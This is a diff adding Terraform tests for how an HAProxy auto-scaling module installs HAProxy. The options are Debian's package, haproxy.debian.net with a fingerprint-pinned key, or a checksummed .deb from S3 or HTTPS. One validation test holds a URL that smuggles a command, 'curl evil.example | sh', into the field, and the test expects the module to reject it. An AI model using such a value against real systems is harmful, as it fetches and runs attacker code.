@@ -233,8 +233,8 @@ run "nlb" {
     error_message = "Reading the instance id must be retried a bounded number of times, and stop the provisioning with a clear message when it fails."
   }
   assert {
-    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "apt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\n") && strcontains(base64decode(aws_launch_template.this.user_data), "systemctl stop haproxy.service || true\n\n# This instance's id")
-    error_message = "The instance id is read once curl is installed."
+    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "apt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\n") && strcontains(base64decode(aws_launch_template.this.user_data), "echo \"haproxy-asg: HAProxy $haproxy_installed, as asked ($haproxy_asked)\"\n\n# This instance's id")
+    error_message = "The instance id is read once curl is installed (and HAProxy's version checked)."
   }
   assert {
     condition     = strcontains(base64decode(aws_launch_template.this.user_data), "/usr/local/bin/agent --config /etc/haproxy-asg/agent.toml config render --output /etc/haproxy/haproxy.cfg\n") && strcontains(base64decode(aws_launch_template.this.user_data), "pools_config = \"/etc/haproxy/haproxy-asg.cfg\"")
@@ -791,4 +791,330 @@ run "backend_cidr_blocks_validated" {
     backend_cidr_blocks = []
   }
   expect_failures = [var.backend_cidr_blocks]
+}
+
+# --- Which HAProxy (var.haproxy) -------------------------------------------------------
+
+# The default: Debian 12's own package, today's install line, then the version check.
+run "haproxy_default_is_debians_package" {
+  command = plan
+
+  assert {
+    condition = (
+      strcontains(local.user_data, "apt-get update -q\napt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\nhaproxy_asked=\"Debian 12's haproxy package (2.6)\"\n# The package may start HAProxy with its sample configuration: stop it until ours is in place.\nsystemctl stop haproxy.service || true\n")
+    )
+    error_message = "By default the user data must install Debian's haproxy with the same line as before, and stop it."
+  }
+  assert {
+    condition = (
+      strcontains(local.user_data, "haproxy_said=\"$(/usr/sbin/haproxy -v 2>&1)\" || true\nprintf '%s\\n' \"$haproxy_said\"\n") &&
+      strcontains(local.user_data, "if [[ \"$haproxy_said\" =~ ^HAProxy\\ version\\ ([0-9]+\\.[0-9]+)[.-] ]]; then\n  haproxy_installed=\"$${BASH_REMATCH[1]}\"\nfi\n") &&
+      strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"2.6\" ]]; then\n  echo \"haproxy-asg: $haproxy_asked was asked for (haproxy), but /usr/sbin/haproxy -v says: $${haproxy_said:-nothing}; stopping\" >&2\n  exit 1\nfi\n")
+    )
+    error_message = "The user data must print haproxy -v and stop, naming what was asked and what it got, unless /usr/sbin/haproxy is 2.6."
+  }
+  assert {
+    condition     = !strcontains(local.user_data, "haproxy.debian.net") && !strcontains(local.user_data, "apt-mark") && !strcontains(local.user_data, "/etc/apt/")
+    error_message = "Debian's package needs no other repository, pin or hold."
+  }
+}
+
+run "haproxy_debian_2_6_explicit" {
+  command = plan
+  variables {
+    haproxy = { source = "debian", version = "2.6" }
+  }
+  assert {
+    condition     = strcontains(local.user_data, "apt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\n") && strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"2.6\" ]]; then")
+    error_message = "source = debian with version 2.6 is the default."
+  }
+}
+
+run "haproxy_from_haproxy_debian_net" {
+  command = apply
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "3.0" }
+  }
+  assert {
+    condition     = strcontains(local.user_data, "apt-get update -q\napt-get install -y -q --no-install-recommends awscli ca-certificates curl gpg\n") && !strcontains(local.user_data, "--no-install-recommends haproxy awscli")
+    error_message = "With haproxy.debian.net, Debian's packages come first (gpg to check the key), not Debian's haproxy."
+  }
+  assert {
+    condition = (
+      strcontains(local.user_data, "curl -fsSL --retry 5 -o \"$haproxy_keys/download.gpg\" https://haproxy.debian.net/haproxy-archive-keyring.gpg\n") &&
+      strcontains(local.user_data, "gpg --batch --quiet --homedir \"$haproxy_keys\" --import \"$haproxy_keys/download.gpg\"\n") &&
+      strcontains(local.user_data, "awk -F: '$1 == \"pub\" { pub = 1; next } pub && $1 == \"fpr\" { found = found || $10 == \"AEF2348766F371C689A7360095A42FE8353525F9\"; pub = 0 } END { exit !found }'; then\n  echo \"haproxy-asg: https://haproxy.debian.net/haproxy-archive-keyring.gpg holds no key AEF2348766F371C689A7360095A42FE8353525F9 (haproxy.key_fingerprint); refusing the repository\" >&2\n  exit 1\nfi\n") &&
+      strcontains(local.user_data, "gpg --batch --homedir \"$haproxy_keys\" --export AEF2348766F371C689A7360095A42FE8353525F9 > /etc/apt/keyrings/haproxy-archive-keyring.gpg\n")
+    )
+    error_message = "The repository's key must be pinned by fingerprint (a primary key): only that key goes into the keyring apt trusts for it, and without it the provisioning stops."
+  }
+  assert {
+    condition     = strcontains(local.user_data, "echo \"deb [signed-by=/etc/apt/keyrings/haproxy-archive-keyring.gpg] https://haproxy.debian.net bookworm-backports-3.0 main\" > /etc/apt/sources.list.d/haproxy.list\n")
+    error_message = "The apt source must be haproxy.debian.net's bookworm-backports-3.0 suite, signed by the pinned key only."
+  }
+  assert {
+    condition     = strcontains(local.user_data, "Package: haproxy\nPin: origin haproxy.debian.net\nPin-Priority: 990\n\nPackage: *\nPin: origin haproxy.debian.net\nPin-Priority: 1\nHAPROXY_ASG_APT_PIN\napt-get update -q\napt-get install -y -q --no-install-recommends \"haproxy=3.0.*\"\n")
+    error_message = "apt must take haproxy from haproxy.debian.net, nothing else from there (pin 1), and install the 3.0 line."
+  }
+  assert {
+    condition     = strcontains(local.user_data, "haproxy_asked=\"HAProxy 3.0 from haproxy.debian.net (bookworm-backports-3.0)\"") && strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"3.0\" ]]; then")
+    error_message = "The version check must expect 3.0 and name the repository's suite."
+  }
+  assert {
+    condition     = toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore"])
+    error_message = "A repository needs no IAM permission."
+  }
+  assert {
+    condition     = output.agent_config == run.nlb.agent_config
+    error_message = "agent.toml does not depend on the HAProxy chosen."
+  }
+}
+
+run "haproxy_debian_net_2_8" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "2.8" }
+  }
+  assert {
+    condition     = strcontains(local.user_data, " https://haproxy.debian.net bookworm-backports-2.8 main\"") && strcontains(local.user_data, "\"haproxy=2.8.*\"") && strcontains(local.user_data, "!= \"2.8\" ]]")
+    error_message = "2.8 must come from the bookworm-backports-2.8 suite, and be checked."
+  }
+}
+
+run "haproxy_debian_net_3_2" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "3.2" }
+  }
+  assert {
+    condition     = strcontains(local.user_data, " https://haproxy.debian.net bookworm-backports-3.2 main\"") && strcontains(local.user_data, "\"haproxy=3.2.*\"") && strcontains(local.user_data, "!= \"3.2\" ]]")
+    error_message = "3.2 must come from the bookworm-backports-3.2 suite, and be checked."
+  }
+}
+
+run "haproxy_debian_net_2_6" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "2.6" }
+  }
+  assert {
+    condition     = strcontains(local.user_data, " https://haproxy.debian.net bookworm-backports-2.6 main\"") && !strcontains(local.user_data, "--no-install-recommends haproxy awscli")
+    error_message = "2.6 from haproxy.debian.net (its latest 2.6.x) must come from the bookworm-backports-2.6 suite."
+  }
+}
+
+run "haproxy_debian_net_key_fingerprint" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "3.0", key_fingerprint = "0123456789ABCDEF0123456789ABCDEF01234567" }
+  }
+  assert {
+    condition     = strcontains(local.user_data, "$10 == \"0123456789ABCDEF0123456789ABCDEF01234567\"") && strcontains(local.user_data, "--export 0123456789ABCDEF0123456789ABCDEF01234567 > ") && !strcontains(local.user_data, "AEF2348766F371C689A7360095A42FE8353525F9")
+    error_message = "A key_fingerprint given must replace the default pin everywhere."
+  }
+}
+
+run "haproxy_deb_from_s3" {
+  command = apply
+  variables {
+    haproxy = {
+      source  = "deb"
+      version = "3.2"
+      url     = "s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb"
+      sha256  = "3333333333333333333333333333333333333333333333333333333333333333"
+    }
+  }
+  assert {
+    condition     = strcontains(local.user_data, "apt-get update -q\napt-get install -y -q --no-install-recommends awscli ca-certificates curl\n") && !strcontains(local.user_data, "--no-install-recommends haproxy awscli")
+    error_message = "With a package of yours, Debian's haproxy must not be installed."
+  }
+  assert {
+    condition = strcontains(local.user_data, join("\n", [
+      "aws s3 cp --region \"us-west-2\" --only-show-errors \"s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb\" /tmp/haproxy-asg-haproxy.deb",
+      "if ! echo \"3333333333333333333333333333333333333333333333333333333333333333  /tmp/haproxy-asg-haproxy.deb\" | sha256sum -c -; then",
+      "  echo \"haproxy-asg: s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb does not match haproxy.sha256; refusing to install it\" >&2",
+      "  rm -f /tmp/haproxy-asg-haproxy.deb",
+      "  exit 1",
+      "fi",
+      "apt-get install -y -q --no-install-recommends /tmp/haproxy-asg-haproxy.deb",
+      "rm -f /tmp/haproxy-asg-haproxy.deb",
+      "apt-mark hold haproxy",
+      "",
+    ]))
+    error_message = "The package must be fetched from S3, installed only if sha256sum -c accepts its SHA-256 (otherwise the provisioning stops), with its dependencies by apt, then held."
+  }
+  assert {
+    condition     = strcontains(local.user_data, "haproxy_asked=\"HAProxy 3.2 from s3://my-packages/haproxy/haproxy_3.2.4-1_amd64.deb\"") && strcontains(local.user_data, "if [[ \"$haproxy_installed\" != \"3.2\" ]]; then") && !strcontains(local.user_data, "haproxy.debian.net")
+    error_message = "The version check must expect the version given and name the package."
+  }
+  assert {
+    condition = (
+      [for s in data.aws_iam_policy_document.instance.statement : s.actions if s.sid == "HaproxyPackage"][0] == toset(["s3:GetObject"]) &&
+      [for s in data.aws_iam_policy_document.instance.statement : s.resources if s.sid == "HaproxyPackage"][0] == toset(["arn:aws:s3:::my-packages/haproxy/haproxy_3.2.4-1_amd64.deb"]) &&
+      toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore", "HaproxyPackage"])
+    )
+    error_message = "The proxies may read exactly the package object, and nothing more is allowed."
+  }
+}
+
+run "haproxy_deb_from_https" {
+  command = apply
+  variables {
+    haproxy = {
+      source  = "deb"
+      version = "2.6"
+      url     = "https://packages.example.com/debian/pool/h/haproxy_2.6.22-1_amd64.deb"
+      sha256  = "4444444444444444444444444444444444444444444444444444444444444444"
+    }
+  }
+  assert {
+    condition = (
+      strcontains(local.user_data, "curl -fsSL --retry 5 -o /tmp/haproxy-asg-haproxy.deb \"https://packages.example.com/debian/pool/h/haproxy_2.6.22-1_amd64.deb\"\nif ! echo \"4444444444444444444444444444444444444444444444444444444444444444  /tmp/haproxy-asg-haproxy.deb\" | sha256sum -c -; then\n") &&
+      !strcontains(local.user_data, "--only-show-errors \"https://")
+    )
+    error_message = "An https package must be fetched with curl, then checked."
+  }
+  assert {
+    condition     = toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore"])
+    error_message = "An https package needs no IAM permission."
+  }
+}
+
+run "haproxy_source_validated" {
+  command = plan
+  variables {
+    haproxy = { source = "ubuntu" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_version_supported_only" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "3.1" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_version_older_refused" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "2.4" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+# version = 3.0 unquoted is the string "3".
+run "haproxy_version_unquoted_refused" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = 3.0 }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_debian_is_2_6" {
+  command = plan
+  variables {
+    haproxy = { source = "debian", version = "3.0" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_debian_net_needs_a_version" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_deb_needs_a_version" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", url = "https://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_deb_needs_a_sha256" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_deb_needs_a_url" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_url_only_with_deb" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "3.0", url = "https://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_url_not_plain_http" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "http://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_url_other_scheme_refused" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "ftp://packages.example.com/haproxy.deb", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+# Quotes and spaces never reach the shell script.
+run "haproxy_url_cannot_inject" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb\"; curl evil.example | sh; \"", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_s3_url_needs_a_key" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "s3://my-packages/", sha256 = "4444444444444444444444444444444444444444444444444444444444444444" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_sha256_validated" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb", sha256 = "ABCDEF" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+run "haproxy_sha256_placeholder_refused" {
+  command = plan
+  variables {
+    haproxy = { source = "deb", version = "3.0", url = "https://packages.example.com/haproxy.deb", sha256 = "0000000000000000000000000000000000000000000000000000000000000000" }
+  }
+  expect_failures = [var.haproxy]
+}
+
+# A short key id (the last 16 digits) is not a pin.
+run "haproxy_key_fingerprint_validated" {
+  command = plan
+  variables {
+    haproxy = { source = "haproxy.debian.net", version = "3.0", key_fingerprint = "95A42FE8353525F9" }
+  }
+  expect_failures = [var.haproxy]
 }
